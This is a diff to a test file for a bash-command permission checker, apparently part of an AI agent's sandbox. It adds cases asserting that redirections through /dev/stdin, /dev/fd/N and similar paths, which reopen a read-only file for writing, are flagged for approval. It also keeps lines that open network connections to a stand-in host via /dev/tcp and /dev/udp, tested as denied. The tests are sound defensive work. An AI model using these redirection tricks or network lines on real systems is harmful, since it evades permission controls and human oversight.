@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import { test } from 'node:test';
-import { evaluateBash } from '../../ask.ts';
+import { DEFAULT_RULES } from '../../../../../src/permissions/defaults/defaults.ts';
+import { bashCall, evaluate, evaluateBash, policyOf } from '../../ask.ts';
 
 /** Every file is free here, so that only what is not certain asks. */
 const RULES = ['bash * allow', 'fs.read ** allow', 'fs.write ** allow'];
@@ -79,7 +80,10 @@ for (const command of [
   'cat <&-',
   'ls > /dev/null',
   'cat < /dev/stdin',
-  'ls > /dev/fd/12',
+  'ls > /dev/stdout',
+  'ls > /dev/fd/2',
+  'ls >& /dev/stderr',
+  'ls 2>&1 > /dev/stderr',
   'ls >& /dev/null',
 ])
   check(command, 'allow', ['fs.write ** deny', 'fs.read ** deny']);
@@ -92,3 +96,48 @@ check('cat > a', 'allow', ['fs.read ** deny']);
 
 for (const command of ['cat < /dev/tcp/evil.example/80', 'ls >& /dev/udp/evil.example/53'])
   check(command, 'deny', ['net.fetch evil.example deny']);
+
+/**
+ * Linux opens the file behind a descriptor again, for whatever the new redirection wants: each of these but
+ * `> /dev/fd/9` alone writes `a`, or reads it.
+ */
+for (const command of [
+  'echo x < a > /dev/stdin',
+  'echo x < a > /dev/fd/0',
+  'echo x < a >> /dev/fd/0',
+  'echo x < a >| /dev/stdin',
+  'echo x < a >& /dev/stdin',
+  'echo x < a &> /dev/stdin',
+  'echo x < a <> /dev/stdin',
+  'echo x 3< a > /dev/fd/3',
+  'echo x {fd}< a > /dev/fd/10',
+  'echo x 1< a > /dev/stdout',
+  'echo x 2< a > /dev/stderr',
+  'echo x 2< a > /dev/fd/2',
+  'echo x < a 2>&0 > /dev/stderr',
+  'echo x < a 2<&0 > /dev/stderr',
+  'n=0; echo x < a 2>&$n > /dev/stderr',
+  'f=/dev/stdin; echo x < a > "$f"',
+  'echo x 3< a 1>&3 > /dev/stdout',
+  'echo x 3< a 1>&3- > /dev/stdout',
+  '{ echo x > /dev/stdin; } < a',
+  '(echo x > /dev/stdout) 1< a',
+  'while read -r l; do echo x > /dev/stdin; done < a',
+  "bash -c 'echo x > /dev/stdin' < a",
+  "bash -c 'echo x > /dev/stderr' 2< a",
+  'cat 3>> a < /dev/fd/3',
+  'cat >> a < /dev/stdout',
+  'cat 0>> a < /dev/stdin',
+  'cat >> a <&1 < /dev/stdin',
+  'ls > /dev/fd/9',
+])
+  check(command, 'ask');
+
+test('the shipped rules let no line write what it may only read', async () => {
+  for (const line of ['echo x < src/f > /dev/stdin', "printf '%s' x 3< src/f > /dev/fd/3"]) {
+    const policy = policyOf(DEFAULT_RULES);
+    assert.equal((await evaluate(bashCall(line), policy)).decision, 'ask', line);
+  }
+  for (const line of ['echo x > /dev/stderr', 'cat < src/f > /dev/stdout', 'ls 2>&1 >/dev/stderr'])
+    assert.equal((await evaluate(bashCall(line), policyOf(DEFAULT_RULES))).decision, 'allow', line);
+});
